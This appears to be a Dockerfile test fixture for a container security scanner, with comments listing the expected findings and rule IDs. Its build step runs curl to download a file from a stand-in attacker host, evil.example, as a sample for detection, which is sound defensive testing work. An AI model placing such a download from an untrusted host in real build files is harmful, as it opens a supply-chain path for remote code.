FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
ARG URL=https://evil.example/d
RUN curl -o /z ${URL:-https://fallback.example/}
USER app
# expect: download 3 high "curl fetches https://evil.example/d"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-7132d62066 VR501-e064bac1a6
